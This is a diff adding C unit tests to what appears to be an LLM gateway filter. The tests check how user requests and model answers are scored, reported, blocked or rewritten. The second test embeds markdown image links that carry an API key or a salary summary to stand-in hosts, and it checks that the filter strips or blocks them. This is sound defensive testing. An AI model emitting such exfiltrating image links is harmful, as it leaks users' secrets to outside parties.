@@ -753,6 +753,72 @@ long_numbers_are_texts(void **state)
 }
 
 
+/* what people ask about is told of and never adds up to a block */
+
+static void
+strict_lets_people_ask(void **state)
+{
+#define ASK(text)                                                             \
+    "{\"messages\":[{\"role\":\"user\",\"content\":\"" text "\"}]}"
+
+    size_t  i;
+
+    static const char *const  asked[] = {
+        ASK("why do 8.8.8.8, 9.9.9.9 and 1.1.1.1 answer, or 2001:4860:4860::8888"
+            " and 8.8.4.4?"),
+        ASK("![x](https://a.example/p.png?q=the%20api%20key%20is%2012345) "
+            "![](http://203.0.113.9/conversation+summary:+salary+90k.gif)"),
+        ASK("Traceback (most recent call last):\\n  File \\\"a.py\\\", line 1, in "
+            "<module>\\n    f()\\nValueError: bad\\nTraceback (most recent call "
+            "last):\\n  File \\\"b.py\\\", line 2, in f\\n    g()\\nKeyError: 1"),
+        NULL
+    };
+
+    (void) state;
+
+    for (i = 0; asked[i] != NULL; i++) {
+        assert_int_equal(request(policy("strict", NULL), asked[i]), LLMG_OK);
+        assert_true(fixture.result.findings.n > 0);
+        assert_int_equal(fixture.result.decision.action, LLMG_ACTION_REPORT);
+        assert_int_equal(fixture.result.decision.score, 0);
+    }
+
+    assert_int_equal(request(policy("strict", NULL),
+                             ASK("8.8.8.8 is of jane@example.com")), LLMG_OK);
+    assert_int_equal(fixture.result.decision.action, LLMG_ACTION_BLOCK);
+
+#undef ASK
+}
+
+
+/* what a page would fetch unasked; a link only when somebody clicks */
+
+static void
+answers_carry_no_data_away(void **state)
+{
+#define SAID(text)                                                            \
+    "{\"choices\":[{\"message\":{\"content\":\"" text "\"}}]}"
+#define PLACE   "(https://a.example/p.png?q=the%20api%20key%20is%2012345)"
+
+    (void) state;
+
+    assert_int_equal(response(policy("default", NULL),
+                              SAID("a ![x]" PLACE " b")), LLMG_OK);
+    body_is(SAID("a [EXFIL_MARKDOWN] b"));
+
+    assert_int_equal(response(policy("strict", NULL),
+                              SAID("a ![x]" PLACE " b")), LLMG_OK);
+    assert_int_equal(fixture.result.decision.action, LLMG_ACTION_BLOCK);
+
+    assert_int_equal(response(policy("default", NULL), SAID("a [x]" PLACE)),
+                     LLMG_OK);
+    assert_false(fixture.result.edited);
+
+#undef PLACE
+#undef SAID
+}
+
+
 /* of what was masked in an answer the tokens say nothing, in any choice */
 
 static void
@@ -1211,6 +1277,8 @@ main(void)
         cmocka_unit_test(a_response_has_choices_usage_and_a_model),
         cmocka_unit_test(what_the_model_is_called_holds_no_secret),
         cmocka_unit_test(long_numbers_are_texts),
+        cmocka_unit_test(strict_lets_people_ask),
+        cmocka_unit_test(answers_carry_no_data_away),
         cmocka_unit_test(logprobs_leave_with_clean_answers_only),
         cmocka_unit_test(a_text_alone_is_not_json),
         cmocka_unit_test(every_allocation_may_fail),
